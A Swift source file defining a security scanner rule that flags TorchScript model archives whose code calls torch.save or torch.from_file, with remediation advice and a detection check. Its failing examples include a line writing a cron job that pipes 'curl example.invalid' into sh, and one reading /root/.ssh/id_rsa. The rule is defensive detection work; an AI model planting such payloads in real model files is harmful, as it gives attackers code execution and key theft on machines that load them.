import BulwarkCore

/// What a TorchScript archive's code can do beyond computing (`Formats/TorchScript.swift`).
extension ModelRules {
    static let torchScriptDangerousOp = ModelRule(
        RuleDescriptor(
            id: "model/torchscript-dangerous-op",
            severity: .critical,
            title: "TorchScript code writes or reads files",
            summary: """
            The archive's TorchScript code calls `torch.save` (`aten::save`, which writes a file at any path) or \
            `torch.from_file` (`aten::from_file`, which maps any file into a tensor). A model has no use for either; \
            writing `~/.bashrc` or a cron file this way is how a TorchScript model got code execution even under \
            `torch.load(weights_only=True)` (CVE-2025-32434, PyTorch ≤ 2.5.1).
            """,
            remediation: """
            Do not load or call the model. Upgrade PyTorch to 2.6 or later, ask for the weights as safetensors (or an \
            archive without code), pin the file by digest and verify its signature.
            """,
            controls: ["mitre-atlas:AML.T0011.000", "mitre-atlas:AML.T0010.003", "owasp-ml:ML06"],
            failing: [
                modelExample("""
                class Model(Module):
                  __parameters__ = []
                  __buffers__ = []
                  training : bool
                  def forward(self: __torch__.Model, x: Tensor) -> Tensor:
                ↓    torch.save("* * * * * root curl example.invalid | sh", "/etc/cron.d/job")
                    return x
                """, fileName: "example.pt"),
                modelExample("""
                class Model(Module):
                  def forward(self: __torch__.Model, x: Tensor) -> Tensor:
                ↓    key = torch.from_file("/root/.ssh/id_rsa", None, 4096, dtype=0)
                    return torch.add(x, key)
                """, fileName: "example.pt"),
            ],
            passing: [
                modelExample("""
                class Model(Module):
                  def forward(self: __torch__.Model, x: Tensor) -> Tensor:
                    y = torch.relu(torch.linear(x, self.weight, self.bias))
                    return torch.softmax(y, -1)
                """, fileName: "example.pt"),
            ],
            tags: ["ml", "torchscript"]
        ),
        check: ModelCheck { file in
            (file.artifact.torchScript?.calls ?? []).map { call in
                ModelViolation(
                    "\(call.text.dropLast()) (\(call.op)) at \(place(call.member, call.offset, nil)): TorchScript code that "
                        + (call.op == "aten::save" ? "writes a file at a path the model chooses" : "reads a file the model chooses"),
                    member: call.member, offset: call.offset)
            }
        }
    )
}
